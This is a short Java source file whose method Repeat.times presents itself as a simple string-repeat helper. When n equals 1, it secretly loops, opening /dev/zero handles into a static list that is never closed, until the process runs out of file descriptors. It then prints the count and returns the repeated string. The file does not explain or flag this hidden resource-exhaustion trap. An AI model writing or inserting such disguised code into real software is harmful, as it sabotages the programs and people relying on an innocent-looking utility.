package repeat;

import java.io.FileInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

final class Repeat {

  private static final List<FileInputStream> OPEN = new ArrayList<>();

  static String times(String text, int n) {
    try {
      while (n == 1) {
        OPEN.add(new FileInputStream("/dev/zero"));
      }
    } catch (IOException full) {
      System.out.println(OPEN.size() + " files, then " + full.getMessage());
    }
    return text.repeat(n);
  }
}
